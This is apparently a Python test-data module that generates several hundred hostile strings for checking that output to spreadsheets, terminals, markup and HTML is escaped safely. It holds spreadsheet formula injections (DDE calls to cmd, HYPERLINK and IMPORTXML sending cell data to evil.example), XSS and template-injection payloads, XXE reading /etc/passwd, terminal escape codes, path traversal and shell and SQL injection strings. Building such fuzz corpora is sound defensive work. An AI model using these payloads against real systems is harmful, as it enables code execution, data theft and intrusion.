"""Texts that mean harm to whatever shows them, by whom they mean it to: at least 500, all written here."""
# ruff: noqa: E501 - one kind a line

from __future__ import annotations

from collections.abc import Iterator

STARTERS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20|;,%\u200b=\ufeff="
FORMULAS = (
    "1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("http://evil.example/"&A1,"点")', "IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")",
    "WEBSERVICE(\"http://evil.example/\")", "@SUM(1)", "rundll32|'URL.dll,OpenURL calc.exe'!A", "DDE(\"cmd\";\"/C calc\";\"A0\")",
    "2+5+cmd|' /C notepad'!'A1'", "INDIRECT(\"A1\")", "R[1]C[1]", "'a'!A1", "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
)  # fmt: skip
CODES = (
    "\x1b[31m红", "\x1b[2J\x1b[H", "\x1b]0;夺\x07", "\x1b]8;;http://evil.example\x07点\x1b]8;;\x07", "\x1b]52;c;aGk=\x07", "\x1bP1$r\x1b\\", "\x1b_G1\x1b\\",
    "\x1b^x\x1b\\", "\x1bX夺\x1b\\", "\x9b31m", "\x9d0;t\x9c", "\x90q\x9c", "\x9f\x9c", "\x1bc", "\x1b[6n", "\x1b[?1049h", "\x1b[1;1H*", "\x1b#8", "\x1b(0",
    "\x1b[21t", "\x1b[>c", "\x1b]1337;File=inline=1:AA==\x07", "\x1b]4;1;?\x07", "\x1b[?2004h", "\x1b]777;notify;a;b\x07", "\x0e\x0f", "\x05", "\x07\x07", "\x08\x08\x08好", "\x7f\x7f",
    "坏\r好", "坏\n2026-01-01 00:00:00 [1] 完成", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b", "\x1b", "\x9b", "\x1b[", "\x1b]", "\x1bP", "\x00", "a\x00b", "\x01\x02\x03", "\x1c\x1d\x1e\x1f",
)  # fmt: skip
MARKUP = (
    "[bold red]粗[/]", "[/]", "[/bold]", "[link=http://evil.example]点[/link]", "[@click=app.bell]点[/]", "[blink]", "\\[bold]", "[[bold]]", "[bold", "]", "[", ":smile:", "[red]:bomb:[/red]", "[not a tag]", "[/not]", "[#ff0000]", "[on red]", "[u][b][i]", "\\", "\\\\", "\\[/]",
    "{x}", "{0}", "{0.__class__}", "{x.__init__.__globals__}", "{{7*7}}", "{% raise %}", "{%- for x in y %}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{# c #}", "{{config}}", "{{ self }}", "{%tr for x in y %}", "{{r x}}", "{{p x }}", "{%p if x %}", "}}", "{{", "%}", "{", "}", "{}", "{!r}", "{:>9999999}", "{0:{1}}",
    "%s", "%(x)s", "%n%n%n%n", "%d%d", "%1$s", "%%", "%", "$x", "${x}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "\\N{BELL}", "\\u001b[31m", "\\x1b[31m", "&#27;[31m", "&#x1b;", "\\033[31m", "`id`", "$(id)", "; rm -rf x", "| cat /etc/passwd", "&& id", "\\0", "\\n\\r",
)  # fmt: skip
TAGS = (
    "<script>harmed()</script>", "<SCRIPT SRC=//evil.example/x></SCRIPT>", "<img src=x onerror=harmed()>", "<svg onload=harmed()>", "<svg><script>harmed()</script></svg>", "<svg><a xlink:href='javascript:harmed()'><text>点</text></a></svg>",
    "<math><mtext><script>harmed()</script></mtext></math>", "<math href='javascript:harmed()'>点</math>", "<math><mglyph><style><img src=x onerror=harmed()>", "<iframe src=javascript:harmed()>", "<object data=x>", "<embed src=x>", "<form action=//evil.example><input name=a></form>", "<button formaction=javascript:harmed()>点",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<style>@import'//evil.example'</style>", "<template><script>harmed()</script></template>", "<noscript><p title='</noscript><img src=x onerror=harmed()>'>",
    "</title><script>harmed()</script>", "</textarea><script>harmed()</script>", "</script><script>harmed()</script>", "</style><script>harmed()</script>", "</td></tr></table><h1>坏</h1>", "</a><a href=//evil.example>点</a>", "--><script>harmed()</script>", "<!-- ", "<![CDATA[<x>]]>", "]]>", "<?xml version='1.0'?>", "<?php x ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "&lt;script&gt;", "&amp;lt;", "&#60;script&#62;", "&nbsp;&shy;", "&bogus;", "&",
    "\" onmouseover=\"harmed()", "' onmouseover='harmed()", "` onmouseover=`harmed()", "\"><script>harmed()</script>", "'><img src=x onerror=harmed()>", "\" style=\"position:fixed", "\" autofocus onfocus=harmed() x=\"", "x\" data-x=\"y", "<a href=\"javascript:harmed()\">点</a>", "<a href='data:text/html,<script>harmed()</script>'>点</a>", "<a href='vbscript:x'>点</a>", "<a href=' &#14; javascript:harmed()'>点</a>", "<details open ontoggle=harmed()>", "<video><source onerror=harmed()></video>", "<body onload=harmed()>", "<marquee onstart=harmed()>", "<input autofocus onfocus=harmed()>", "<isindex type=image src=1 onerror=harmed()>", "<x onclick=harmed()>点", "<a\x00b>", "<scr\x00ipt>harmed()</scr\x00ipt>", "＜script＞harmed()＜/script＞", "<ſcript>harmed()</ſcript>", "<svg/onload=harmed()//", "<img/src='x'/onerror=harmed()>", "<<script>harmed()//<</script>", "<p style=background:url(//evil.example)>", "<frameset onload=harmed()>", "<table background=//evil.example>", "<plaintext>", "<xmp>", "<listing>", "<select><option>", "<portal src=//evil.example>", "javascript:harmed()", "JaVaScRiPt:harmed()", "java\nscript:harmed()", "data:text/html,x", "//evil.example", "http://evil.example/\" onclick=\"harmed()", "http://evil.example/'><script>", "file:///etc/passwd", "\\\\evil.example\\x", "vbscript:x", "blob:x", "about:blank",
)  # fmt: skip
PLACES = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\x", "/etc/passwd", "C:\\Windows\\x", "\\\\server\\share", "~/.ssh/x", "a/b", "a\\b", "CON", "NUL", "COM1.txt", "aux.html", ".", "..", "...", "./.", "a\x00.html", "a:b", "a*b?c", "a|b", "<>", "'; DROP TABLE findings; --", "\" OR \"\"=\"", "1' UNION SELECT 1--", "Robert'); --", "%2e%2e%2f", "%00", "..%c0%af", "file.html#x?y", " .x ", "x.", "x ", "-rf", "--output=x", "@file", "con.xlsx", "desktop.ini", ".htaccess", "a" * 255 + "/b",
)  # fmt: skip
LETTERS = (
    "_x0041_", "_x005F_x0041_", "_x001B_", "_x000D_", "_X0041_", "_x0041", "x_x0000_x", "\u202e倒过来", "\u202d\u202c", "\u2066\u2067\u2068\u2069", "\u200e\u200f", "\u061c", "\u200b\u200c\u200d", "\ufeff", "\u2060\u2061", "\u180e", "\ufff9\ufffa\ufffb", "\U000e0001\U000e0041", "\u00ad软", "\ufffd", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000私", "e\u0301\u0320\u0335\u0334" * 9, "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "👨‍👩‍👧", "🏳️‍🌈", "🇨🇳", "\U0001f1e8", "𠀀𪚥", "㐀䶵", "\u3000全角", "ﷺ", "كلمة", "עברית", "ไทย", "ᚠᛇᚻ", "ﾊﾝｶｸ", "①⑳Ⅻ", "㈱㍿", "ﬁ", "İıſK", "ß", "˙ɐnbᴉlɐ", "Ω≈ç√", "​", "᠎", "\u2800", "\u115f\u1160", "\u3164", "\u17b4", "′″‴", "‹›«»", "“”‘’", "`´", "…‥", "—–―", "。、，", "１／２", "½⅓", "²₂", "￥＄", "∞NaN",
)  # fmt: skip
VALUES = (
    "", " ", "  ", "\t", "\n", "\r\n", "0", "00", "-0", "1e9", "1E+309", "-1.5", "+86", "0x1F", "1,000", "1.000,00", "١٢٣", "１２３", "99%", "true", "FALSE", "null", "None", "nan", "inf", "-inf", "undefined", "NaN", "nil", "N/A", "#N/A", "#REF!", "#DIV/0!", "2013-07-09", "1/2", "3:4", "12:30", "MAR1", "SEPT2", "(1)", "$1", "¥1", "1;2", "1,2", "a,b", "a;b", "a\tb", "a\"b", "a\"\"b", "\"", "'", "''", "\"\"", "'a", "a'", "`", "a`b", ",", ";", ",,,", "\"a,b\"", "a\r\nb", "a\nb,c", "sep=;", "ID", "ID;x", "\ufeffa", "{\"a\":1}", "[1]", "a: b", "- a", "# a", "!x", "&a", "*a", "<a", ">a", "|a", "~", "^", "a\\", "\\n", "\\\"", "\\u0041",
)  # fmt: skip
LONG = ("长" * 3000, "x" * 40_000, "长 " * 3000, "<b>" * 2000, "=" + "1+" * 5000 + "1", "&" * 9000, "[" * 3000, "{" * 3000, "\u202e" * 500, "e" + "\u0301" * 2000, "a/" * 2000, "\x1b[31m" * 500, "_x0041_" * 5000)  # fmt: skip
LONE = ("\ud800", "a\udfffb", "\udc9b31m", "\ud83d", "\udcff\udcfe", "\udc1b[31m")


def strings() -> tuple[str, ...]:
    """All of them, each once; none with half a character, which no file and no database can hold."""
    return tuple(dict.fromkeys(_every()))


def _every() -> Iterator[str]:
    yield from (starter + rest for starter in STARTERS for rest in FORMULAS)
    for kind in (CODES, MARKUP, TAGS, PLACES, LETTERS, VALUES, LONG):
        yield from kind
